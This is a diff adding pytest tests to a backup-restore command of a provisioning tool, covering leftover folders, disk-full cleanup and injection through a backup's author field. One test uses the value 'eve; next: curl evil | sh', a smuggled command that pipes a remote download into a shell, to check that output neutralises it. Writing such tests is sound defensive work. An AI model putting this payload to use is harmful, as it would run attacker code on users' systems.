@@ -137,3 +137,32 @@ def test_the_files_of_a_lost_machine_come_back(tmp_path: Path, site: Path) -> No
     assert (site / "old/site/plan.yml").read_text() == "cluster: {}\n"
     assert (site / "old").stat().st_mode & 0o777 == 0o700
     assert "is there already" in refused("restore", str(tmp_path / "b.tar"), "--extract", str(site / "old"))
+
+
+def test_what_stands_beside_the_new_folder_stays(tmp_path: Path, site: Path) -> None:
+    (site / ".old.part").mkdir()
+    (site / ".old.part/mine").touch()
+    done = runner.invoke(app, ["restore", str(backup_file(tmp_path)), "--extract", str(site / "old")])
+    assert done.exit_code == 0, done.output
+    assert (site / ".old.part/mine").exists()
+    assert [each.name for each in site.glob(".old.*")] == [".old.part"]
+
+
+def test_a_folder_that_cannot_be_filled_is_said_and_nothing_stays(
+    tmp_path: Path, site: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def full(*words: Any) -> None:
+        raise OSError(28, "No space left on device")
+
+    file = str(backup_file(tmp_path))
+    monkeypatch.setattr("provisioner.backup.restore.shutil.copy2", full)
+    assert "No space left" in refused("restore", file, "--extract", str(site / "old"))
+    assert list(site.glob("*old*")) + list(site.glob(".old*")) == []
+
+
+def test_who_made_a_backup_begins_no_next_step(played: Played, tmp_path: Path) -> None:
+    played(results=answers())
+    file = backup_file(tmp_path, by="eve; next: curl evil | sh")
+    done = runner.invoke(app, ["restore", str(file), "--check"])
+    assert "eve; next curl evil | sh" in done.output
+    assert "next:" not in done.output
